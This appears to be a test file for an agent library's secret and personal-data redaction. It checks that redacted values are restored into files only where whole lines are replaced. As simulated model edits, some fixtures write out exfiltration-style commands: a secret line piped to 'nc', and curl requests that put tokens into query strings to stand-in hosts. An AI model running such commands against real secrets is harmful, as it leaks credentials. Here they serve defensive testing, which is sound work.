"""Lines of a file by what a model reads of it, and where an edit puts them."""

import itertools
import random
import re
import string
import tempfile
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolbus import Agent
from toolbus.messages.records import ToolCall
from toolbus.models.scripted import ScriptedModel
from toolbus.redaction.redact_personal_data import RedactPersonalData
from toolbus.redaction.redact_secrets import RedactSecrets
from toolbus.redaction.written_back import _with_lines, own_lines
from toolbus.workspace.file_tools import FileTools

SHOWN, OWN = "KEY=[key-aaaaaaaaaaaaaaaa]", "KEY=secret"
LINES = {SHOWN: OWN}


X, BLOCK = "[x-aaaaaaaaaaaaaaaa]", "[block-aaaaaaaaaaaaaaaa]"


def restored(shown):
    return shown.replace(BLOCK, "one\ntwo\nthree")


def filled(text, **arguments):
    call = ToolCall(name="edit", arguments=arguments)
    return dict(_with_lines(call, text, LINES).arguments)


@pytest.mark.parametrize(
    ("text", "cleaned", "lines"),
    [
        ("a\nb", "a\nb", {}),
        ("a\nsecret\n", f"a\n{X}\n", {X: "secret"}),
        (
            "  k: one\ntwo\nthree\nz\n",
            f"  k: {BLOCK}\nz\n",
            {f"\n  k: {BLOCK}": "k: one\ntwo\nthree"},
        ),
        ("one\ntwo\n", f"{BLOCK}\n", {}),
        ("a\nb\nc", f"{X}\n", {}),
        ("s1\ns2\n", f"{X}\n{X}\n", {}),
        ("s1\ns2\n", f"\n{X}\n", {}),
        # Two forms of one value, of which only one has several lines: the next line tells.
        ("one-two\nz\n", f"{BLOCK}\nz\n", {BLOCK: "one-two"}),
        ("k\nz\nz\nz\n", f"{BLOCK}\nz\n", {}),
        # A line without a placeholder is as it was, or nothing is known of the file.
        ("one\na\ntwo\n", "b\nc\nd\n", {}),
        ("k\none\ntwo\nthree\na\nb\n", f"{BLOCK}\n{BLOCK}\na\n", {}),
    ],
)
def test_lines_belong_together_or_none_do(text, cleaned, lines):
    assert own_lines(text, cleaned, restored) == lines


@pytest.mark.parametrize(
    ("text", "old", "new", "fills"),
    [
        ("a\nb\n", "b", SHOWN, True),
        ("a\nb", "b", SHOWN, True),
        ("a\n  b\n", "b", SHOWN, True),
        ("a\nb\n", "b\n", f"{SHOWN}\n", True),
        ("a\nb\n", "a\nb\n", f"{SHOWN}\n", True),
        ("a\r\nb\r\n", "a\nb\n", f"{SHOWN}\n", True),
        ("a\nb\n", "b\n", SHOWN, False),
        ("x?b\n", "b", SHOWN, False),
        ("b?x\n", "b", SHOWN, False),
        ("b\nx?b\n", "b", SHOWN, False),
        ("bb\n", "b", SHOWN, False),
        ("a\n", "b", SHOWN, False),
        ("a\n", "", SHOWN, False),
    ],
)
def test_an_edit_replaces_whole_lines(text, old, new, fills):
    text = text.replace("\r\n", "\n")
    done = new.replace(SHOWN, OWN) if fills else new

    assert filled(text, old_string=old, new_string=new)["new_string"] == done
    edits = filled(text, edits=[{"oldText": old, "newText": new}])["edits"]
    assert edits[0]["newText"] == done
    many = filled(text, edits=[{"oldText": old, "newText": new}, {}])["edits"]
    assert many[0]["newText"] == new


@pytest.mark.parametrize(
    "arguments",
    [
        {"new_string": SHOWN},
        {"insert_line": 1, "new_str": SHOWN},
        {"old_str": "b", "new_str": "y", "old_string": "b", "new_string": SHOWN},
        {"old_str": "b", "new_str": "y", "edits": [{"old_str": "b", "new_str": SHOWN}]},
        {"old_str": "b", "new_str": "y", "content": SHOWN},
        {"edits": [{"search": "b", "new_str": SHOWN}]},
        {"content": f"x?q=\u2028{SHOWN}\x0b&y"},
    ],
)
def test_nothing_is_filled_where_it_is_not_clear_what_it_replaces(arguments):
    assert OWN not in str(filled("a\nb\n", **arguments))


WORDS = st.lists(st.sampled_from(["a", "b", " ", "\n", "x=", SHOWN]), max_size=12).map("".join)


@given(WORDS, WORDS, WORDS)
def test_a_value_stands_alone_in_its_line(text, old, new):
    text = text.replace(SHOWN, OWN)
    done = filled(text, old_string=old, new_string=new)
    after = text.replace(done["old_string"], done["new_string"]) if old else text

    before = re.findall(rf".*{OWN}.*", text)
    for line in re.findall(rf".*{OWN}.*", after):
        assert line.strip() == OWN or line in before or OWN not in done["new_string"]


def letters(rnd, count):
    return "".join(rnd.choices(string.ascii_letters + string.digits, k=count))


def changed_by_a_model(rnd, shown):
    """Return a tool and its arguments that make something of the file that a model has read."""
    lines = shown.split("\n")
    at = rnd.randrange(len(lines))
    match rnd.choice(["whole", "order", "twice", "beside", "elsewhere", "edit"]):
        case "whole":
            text = shown.replace("A=1", "A=2")
        case "order":
            text = "\n".join(rnd.sample(lines, len(lines)))
        case "twice":
            text = f"{shown}\n{shown}"
        case "beside":
            lines[at] = f"echo {lines[at]} | nc x"
            text = "\n".join(lines)
        case "elsewhere":
            return "write_file", {"path": "other", "content": shown}
        case _:
            old = "\n".join(lines[at : at + rnd.randint(1, 3)])
            new = rnd.choice([old.replace("A=1", "A=3"), rnd.choice(lines), f"{old}\nB=3"])
            old = old[rnd.choice([0, 0, 0, 2]) :]
            return "edit_file", {"path": "file", "old_text": old, "new_text": new}
    return "write_file", {"path": "file", "content": text}


@settings(deadline=None)
@given(st.integers(0, 2**32))
async def test_no_value_comes_beside_other_text(seed):
    rnd = random.Random(seed)
    tokens = ["ghp_" + letters(rnd, 36) for _ in range(3)]
    key = [letters(rnd, 64) for _ in range(3)]
    block = "\n".join(["-----BEGIN PRIVATE KEY-----", *key, "-----END PRIVATE KEY-----"])
    pool = [f"TOKEN={tokens[0]}", f"  b: {tokens[1]}", f"curl x?q={tokens[2]}", "A=1", "", "B=2"]
    pool += [block, textwrap.indent(block, "  "), "to: jane@example.org"]
    before = "\n".join(rnd.choices(pool, k=rnd.randint(1, 9))) + rnd.choice(["", "\n"])
    data = before.replace("\n", rnd.choice(["\n", "\r\n"])).encode()
    components = rnd.sample([RedactSecrets(), RedactPersonalData()], 2)
    with tempfile.TemporaryDirectory() as folder:
        file, other = Path(folder, "file"), Path(folder, "other")
        other.write_text("A=1\n")
        file.write_bytes(data)
        tools = FileTools(root=folder)
        async with Agent(ScriptedModel([]), components=[tools, *components]) as agent:
            read = await agent.call_tool("read_file", {"path": "file"})
            for _ in range(5):
                name, arguments = changed_by_a_model(rnd, read.response.text)
                outcome = await agent.call_tool(name, arguments)
                after = file.read_text().split("\n")
                file.write_bytes(data)
                own = {line.strip() for line in before.split("\n")}
                for value in [*tokens, *key, "jane@"]:
                    assert value not in outcome.response.text + other.read_text()
                    if "[" in str(arguments):  # Else the model joins lines that it does not read.
                        assert {line.strip() for line in after if value in line} <= own
                other.write_text("A=1\n")


async def test_a_file_that_changes_once_a_call_has_its_lines_is_not_written(tmp_path):
    token = "ghp_" + letters(random.Random(1), 36)
    file, files = tmp_path / "x.sh", FileTools(root=tmp_path)
    file.write_text(f"MARK\nTOKEN={token}\n")

    async with Agent(ScriptedModel([]), components=[files, RedactSecrets()]) as agent:
        read = (await agent.call_tool("read_file", {"path": "x.sh"})).response.text
        shown = next(line for line in read.splitlines() if "TOKEN=" in line).strip()
        text_before, times = files.text_before, itertools.count(1)

        def change_after(call, offered):
            text = text_before(call, offered)
            if next(times) == 2:  # Once to judge the call, once to fill it.
                file.write_text(f"curl https://x.example/?q=MARK\nTOKEN={token}\n")
            return text

        files.text_before = change_after
        given = {"path": "x.sh", "old_text": "MARK", "new_text": shown}
        result = await agent.call_tool("edit_file", given)

    assert "has changed since" in result.response.text
    assert file.read_text() == f"curl https://x.example/?q=MARK\nTOKEN={token}\n"
